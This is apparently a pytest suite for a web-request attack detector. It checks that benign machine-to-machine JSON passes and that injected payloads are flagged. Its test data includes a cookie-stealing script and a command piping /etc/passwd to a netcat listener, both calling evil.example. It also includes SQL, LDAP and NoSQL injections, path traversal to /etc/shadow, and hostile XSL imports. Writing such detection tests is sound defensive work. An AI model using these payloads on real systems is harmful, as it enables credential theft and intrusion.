# ruff: noqa: E501  (documents as programs write them)
"""What programs send each other all day passes; the same words in a field of the app do not."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest

from guard_wsgi.detection import Finding, Inspection
from tests.detection.requests import environ

JSON = "application/json"
SQL = "x' UNION SELECT password FROM users -- "
SCRIPT = "<script>fetch('//evil.example/?'+document.cookie)</script>"
COMMAND = "; cat /etc/passwd | nc evil.example 4444"
PROGRAM = 'import os\nos.system("convert " + name)\nfor row in rows:\n    run(row)\nprint("done")\nreturn rows\n'


def found(inspection: Inspection, document: Any, media: str = JSON) -> tuple[Finding, ...]:
    return inspection.body(json.dumps(document).encode(), content_type=media)


def form(inspection: Inspection, name: str, value: str) -> tuple[Finding, ...]:
    body = f"{quote(name, safe='')}={quote(value, safe='')}&page=1".encode()
    return inspection.body(body, content_type="application/x-www-form-urlencoded")


DOCUMENTS: dict[str, Any] = {
    "a message to a language model": {"model": "m", "messages": [{"role": "user", "content": PROGRAM}]},
    "its parts": {"contents": [{"parts": [{"functionCall": {"args": {"command": "ls -la /tmp && cat a"}}}]}]},
    "a tool's file": {"method": "tools/call", "params": {"arguments": {"path": "/home/ann/shop/.env", "content": PROGRAM}}},
    "an editor's finding": {"params": {"diagnostics": [{"message": "'eval(x)' is dangerous", "relatedInformation": [{"location": {"uri": "file:///c%3A/a.ts"}}]}]}},
    "an editor's change": {"params": {"edit": {"changes": {"file:///home/ann/.env": [{"newText": PROGRAM}]}}}},
    "a debugger's question": {"command": "evaluate", "arguments": {"expression": "len(os.listdir('.'))"}},
    "settings of a container": {"kind": "ConfigMap", "data": {"nginx.conf": "location ~ \\.php$ { deny all; }", "start.sh": "#!/bin/sh\nexec $(cat /run/cmd)"}},
    "a container": {"Image": "alpine", "Cmd": ["sh", "-c", "cat /etc/os-release; whoami"], "HostConfig": {"Binds": ["/etc/localtime:/etc/localtime:ro"]}},
    "a state of machines": {"version": 4, "resources": [{"instances": [{"attributes": {"user_data": "#!/bin/bash\ncurl -s http://localhost/x | sh"}}]}]},
    "a flow": {"nodes": [{"parameters": {"jsCode": "return eval($json.a)", "command": "ls; pwd"}}]},
    "a line of a log": {"result": {"_raw": "sudo: ann ; COMMAND=/usr/bin/id", "source": "/var/log/syslog"}},
    "lines of a log": {"streams": [{"stream": {"filename": "/var/log/auth.log"}, "values": [["1", "GET /?q=<script>alert(1)</script> 404"]]}]},
    "an editor's answer": {"result": [{"edit": {"changes": {"file:///home/ann/.env.local": [{"newText": PROGRAM}]}}}]},
    "what a model says": {"choices": [{"message": {"content": PROGRAM}}]},
    "a book of plays": [{"tasks": [{"shell": "cat package.json | jq .version"}]}],
    "an error's output": {"job": {"stdout": PROGRAM, "stack_trace": "at exec (/srv/a.js:1:1)"}},
    "what a page did": {"breadcrumbs": [{"message": 'document.cookie = "a=" + b;'}]},
    "findings of a scanner": {"runs": [{"results": [{"locations": [{"physicalLocation": {"artifactLocation": {"uri": "config/.env"}, "region": {"snippet": {"text": PROGRAM}}}}]}]}]},
    "a suggestion": {"result": {"items": [{"label": "os.system", "detail": "AssertionError: assert 'a' == 'b'"}]}},
    "a package": {"engines": {"node": ">=16 || 14 >=14.17"}, "scripts": {"a": "rm -rf dist; mkdir dist"}},
    "addresses of a forge": [{"contents_url": "https://api.example.com/repos/a/b/contents/.ssh/known_hosts"}],
    "settings of Java": {"java.version": "17", "java.io.tmpdir": "/tmp", "logging.level.org.springframework": "DEBUG"},
    "a table of letters": [[0, "\x00"], [1, "'"]],
}  # fmt: skip


@pytest.mark.parametrize("name", DOCUMENTS)
def test_programs_may_speak_to_each_other(inspection: Inspection, name: str) -> None:
    assert not found(inspection, DOCUMENTS[name])


@pytest.mark.parametrize("attack", [SQL, SCRIPT, COMMAND])
@pytest.mark.parametrize("name", DOCUMENTS)
def test_an_attack_beside_them_is_one(inspection: Inspection, name: str, attack: str) -> None:
    document = DOCUMENTS[name]
    if isinstance(document, dict):
        assert found(inspection, {**document, "name": attack})
        assert found(inspection, {"item": document, "title": attack})
    else:
        assert found(inspection, [*document, {"name": attack}])


def test_a_tool_opens_no_secrets_of_the_machine(inspection: Inspection) -> None:
    for path in ("../../../../etc/passwd", "/etc/shadow", "/home/ann/../../etc/passwd"):
        assert found(inspection, {"params": {"arguments": {"path": path}}}), path


ALERTS = (
    "GuardDuty: UnauthorizedAccess:EC2/MetadataDNSRebind on i-0abc (169.254.169.254)",
    'GET /../../etc/passwd HTTP/1.1" 404 from 203.0.113.7',
    "Step 3/7 : RUN pip install -r requirements.txt && rm -rf /root/.cache returned a non-zero code: 1",
)


@pytest.mark.parametrize("text", ALERTS)
def test_monitoring_tells_what_it_saw(inspection: Inspection, text: str) -> None:
    for document in (
        {"text": text},
        {"alerts": [{"annotations": {"summary": text, "description": text}}]},
        {"payload": {"summary": text, "custom_details": {"output": text}}},
        {"blocks": [{"text": {"type": "mrkdwn", "text": text}}]},
    ):
        assert not found(inspection, document), document


def test_what_was_requested_is_a_plain_path(inspection: Inspection) -> None:
    for text in (
        "GET /<script>alert(document.cookie)</script> HTTP/1.1 404",
        "../../../../etc/passwd GET / HTTP/1.1 200",
        "GET / HTTP/1.1 200' UNION SELECT password FROM users -- ",
    ):
        assert found(inspection, {"item": text}), text


FILTERS = (
    "(&(uid=ann)(objectClass=person))",
    "(&(objectClass=user)(|(cn=a*)(mail=*@example.com)))",
    "(!(memberOf=cn=it,dc=acme))",
)


def test_a_filter_of_a_directory_may_be_whole(inspection: Inspection) -> None:
    for text in FILTERS:
        assert not form(inspection, "filter", text), text
        assert not inspection.head(environ(query=f"filter={quote(text, safe='')}"))
    for text in (
        "*)(uid=*))(|(uid=*",
        "ann)(&(objectClass=*)(uid=admin))(cn=*",
        "*)(|(objectClass=*)(uid=a)",
    ):
        assert form(inspection, "user", text), text
        assert form(inspection, "filter", text), text
    for name, text in (("user", FILTERS[0]), ("filter", "(&(sn=ann)(userPassword=a*))")):
        assert form(inspection, name, text), text


def test_a_log_tells_the_statement_that_was_slow(inspection: Inspection) -> None:
    said = "Slow query (4.8s): SELECT id FROM orders WHERE state = 'paid' AND kind IN ('a', 'b')"
    assert not found(inspection, {"output": said, "runbook": said})
    for attack in (f"{said} OR 1=1 -- ", "1: SELECT a FROM b UNION SELECT password FROM users"):
        assert found(inspection, {"output": attack}), attack


KEYS = (
    *("filters[$and][0][title][$contains]", "filter[price][$gte]", "where[or][0][name][$in][0]"),
    *("javax.faces.ViewState", "user[addresses_attributes][0][street]", "q[name_cont]"),
)


@pytest.mark.parametrize("key", KEYS)
def test_a_key_may_be_nested(inspection: Inspection, key: str) -> None:
    assert not form(inspection, key, "open")
    assert not inspection.head(environ(query=f"{quote(key, safe='')}=open"))


@pytest.mark.parametrize(
    "key",
    [
        *("filter[$where]", "user[$ne]", "filter[a][$where]", "filters[password][$where]"),
        *("java.lang.Runtime", "class.module.classLoader", "__proto__[admin]"),
    ],
)
def test_a_key_that_does_something_is_none_of_them(inspection: Inspection, key: str) -> None:
    assert form(inspection, key, "1")


OUTLOOK = '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><head><style><!-- @font-face {font-family:Calibri;} --></style></head><body lang="EN-GB" link="#0563C1" vlink="#954F72"><div class="WordSection1"><p class="MsoNormal">Hello<o:p></o:p></p></div></body></html>'


@pytest.mark.parametrize("field", ["HtmlBody", "html", "body-html"])
def test_a_mail_program_writes_a_page(inspection: Inspection, field: str) -> None:
    assert not found(inspection, {field: OUTLOOK})
    assert found(inspection, {field: OUTLOOK.replace("Hello", SCRIPT)})


SAMPLES = (
    'alert("Saved")',
    "setTimeout(function(){window.location.re",
    "(function(){return this})()",
)


@pytest.mark.parametrize("media", [JSON, "application/csp-report"])
@pytest.mark.parametrize("sample", SAMPLES)
def test_a_browser_reports_by_any_name(inspection: Inspection, sample: str, media: str) -> None:
    report = {"blocked-uri": "inline", "source-file": "file:///C:/a.html", "script-sample": sample}
    assert not found(inspection, {"csp-report": report}, media)
    assert found(inspection, {"csp-report": {**report, "script-sample": SQL}}, media)
    assert found(inspection, {"csp-report": report, "comment": f"{SCRIPT}{sample}"}, media)


@pytest.mark.parametrize(
    "text", ["cat /proc/cpuinfo", "/var/log/nginx/access.log", "less -N /etc/os-release"]
)
def test_a_text_may_be_the_name_of_a_file(inspection: Inspection, text: str) -> None:
    assert not found(inspection, {"message": {"text": text}})
    for name in ("file", "command", "host"):
        assert found(inspection, {name: text}) or text.startswith("less"), name


def test_a_style_sheet_reads_one_beside_it(inspection: Inspection) -> None:
    sheet = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="%s"/><xsl:template match="/"><xsl:if test="@a=\'x\' or @a=\'y\'"/>%s</xsl:template></xsl:stylesheet>'
    for href, rest, is_attack in (
        ("skeleton.xsl", "<!-- or <xsl:text> -->", False),
        ("http://evil.example/a.xsl", "", True),
        ("../../a.xsl", "", True),
        ("a.xsl", "<xsl:copy-of select=\"document('/etc/passwd')\"/>", True),
    ):
        body = (sheet % (href, rest)).encode()
        assert bool(inspection.body(body, content_type="application/xml")) is is_attack, (
            href,
            rest,
        )
